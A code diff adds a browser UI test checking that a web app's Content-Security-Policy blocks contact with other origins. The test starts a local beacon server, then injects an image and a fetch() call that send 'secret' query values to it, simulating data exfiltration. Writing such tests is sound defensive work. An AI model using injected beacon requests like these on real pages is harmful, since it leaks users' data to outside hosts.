@@ -136,3 +136,50 @@ def test_the_cited_sentence_is_readable_in_dark_mode(page, app_url):
     )
     lighter, darker = sorted(map(_luminance, style), reverse=True)
     assert (lighter + 0.05) / (darker + 0.05) >= 4.5, style  # WCAG AA for body text
+
+
+def test_the_page_may_load_and_contact_nothing_but_its_own_server(page, app_url):
+    """Defence in depth under the literal rendering: the Content-Security-Policy stops the
+    browser from loading an image or opening a connection to any other origin, even if
+    markup got into the page."""
+    import http.server
+    import threading
+
+    from tests.ui.conftest import free_port
+
+    hits: list[str] = []
+
+    class Beacon(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 (http.server's name)
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    beacon = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Beacon)
+    threading.Thread(target=beacon.serve_forever, daemon=True).start()
+    other = f"http://127.0.0.1:{beacon.server_address[1]}"
+    try:
+        page.goto(app_url)
+        page.locator("#question textarea").wait_for()
+        blocked = page.evaluate(
+            """async (other) => {
+                const seen = [];
+                document.addEventListener(
+                    'securitypolicyviolation', e => seen.push(e.violatedDirective));
+                const img = document.createElement('img');
+                img.src = other + '/pixel.png?secret=1';
+                document.body.appendChild(img);
+                try { await fetch(other + '/leak?secret=2'); } catch (e) {}
+                await new Promise(r => setTimeout(r, 1000));
+                return seen;
+            }""",
+            other,
+        )
+    finally:
+        beacon.shutdown()
+    assert hits == []
+    assert any(d.startswith("img-src") for d in blocked), blocked
+    assert any(d.startswith("connect-src") for d in blocked), blocked
